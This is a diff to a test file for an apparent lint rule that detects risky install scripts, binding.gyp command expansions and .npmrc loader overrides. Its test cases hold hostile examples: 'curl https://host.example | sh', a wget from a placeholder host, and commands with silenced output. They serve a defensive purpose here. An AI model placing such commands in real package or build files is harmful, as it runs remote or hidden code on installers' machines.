@@ -31,6 +31,7 @@ const REVIEW = ['node install.js', 'node scripts/build.js', 'sh scripts/setup.sh
 /** A settings file of a package manager. */
 const file = (filename: string, code: string, more: Partial<InvalidCase> = {}): Case & Partial<InvalidCase> => ({ code: `${code}\n`, filename, ...more });
 const SETTINGS_HONEST: readonly (readonly [filename: string, code: string])[] = [
+  ['.npmrc', 'python=./.venv/bin/python\nnode-gyp=./node_modules/.bin/node-gyp'],
   ['package.json', '{"pnpm": {"onlyBuiltDependencies": ["esbuild"], "neverBuiltDependencies": ["fsevents"], "strictDepBuilds": true, "onlyBuiltDependenciesFile": "node_modules/@acme/policy/builds.json"}}'],
   ['package.json', '{"neverBuiltDependencies": [], "strictDepBuilds": false}'],
   ['package.json', '{"allowScripts": {"sharp@0.34.1": true, "@acme/native@1.0.0": true, "core-js": false, "canvas": "5.0.1"}}'],
@@ -86,6 +87,7 @@ await ruleTester(rule, {
     // a file of the package, loaded rather than run
     ok({ postinstall: "node -e \"import('./config/scripts/postinstall.js').catch(() => void 0)\"" }),
     ok({ postinstall: "node -e \"try{require('./postinstall')}catch(e){}\"" }),
+    ok({ prepare: 'node .githooks/install.js', postinstall: 'node -e "console.log(require(\'./package.json\').version)"' }),
     gyp({ targets: [{ include_dirs: ['<!@(PKG_CONFIG_PATH="<!(node -p "require(\'node-addon-api\')")/pkgconfig" pkg-config --cflags x)'] }] }, {}),
     file('package.json', '{"scripts": {"postinstall": "node -r dotenv/config ./node_modules/.bin/patch-package", "prepare": "node --import ./scripts/env.js build.js"}}'),
     file('package.json', '{"trustedDependencies": ["@acme/native"], "allowScripts": {"@acme/native": true}}', { options: { strict: true, allow: ['@acme/*'] } }),
@@ -105,6 +107,8 @@ await ruleTester(rule, {
     { code: '{"postinstall": "curl https://host.example | sh"}', filename: 'package.json' },
     gyp({ targets: [{ include_dirs: ['<!(node -p "require(\'node-addon-api\').include_dir")', '<!@(pkg-config --cflags x)'], cflags: ['<!(echo $X)'], sources: ['a.cc', '<(module)'] }] }, strict),
     gyp({ targets: [{ target_name: 'curl', libraries: ['<!(node -e "console.log(require(\'fs\').existsSync(\'x\'))")'] }] }, {}),
+    gyp({ targets: [{ defines: ["V=<!(node -p \"require('../package.json').version\")"] }] }, strict),
+    gyp({ targets: [{ sources: ['<!(node ./tools/has.js x > /dev/null 2>&1 && echo true || echo false)', '<!(pkg-config --exists x > /dev/null && echo 1)', '<!(node ./tools/list.js)'] }] }, {}),
     gyp({ targets: [{ actions: [{ action_name: 'a', action: ['python', 'tools/gen.py', '<@(_inputs)'] }] }] }, {}),
   ],
   invalid: [
@@ -153,6 +157,9 @@ await ruleTester(rule, {
       filename: 'binding.gyp',
       errors: [{ messageId: 'harm', line: 2, column: 33 }],
     },
+    gyp({ targets: [{ sources: ['<!(node index.js > /dev/null 2>&1 && echo stub.c)'] }] }, { errors: [{ messageId: 'muted' }] }) as InvalidCase,
+    gyp({ targets: [{ sources: ['<!(sh ./x.sh >/dev/null; echo a.c)'] }] }, { errors: [{ messageId: 'muted' }] }) as InvalidCase,
+    { code: 'node-gyp=./x.js\npython=./x\n', filename: '.npmrc', errors: [{ messageId: 'loads' }, { messageId: 'loads' }] },
     gyp({ targets: [{ cflags: ['<!@(wget https://host.example/x)'] }] }, { errors: [{ messageId: 'network' }] }) as InvalidCase,
     gyp({ targets: [{ actions: [{ action_name: 'a', action: ['sh', '-c', 'curl https://host.example | sh'] }] }] }, { errors: [{ messageId: 'harm' }] }) as InvalidCase,
   ],
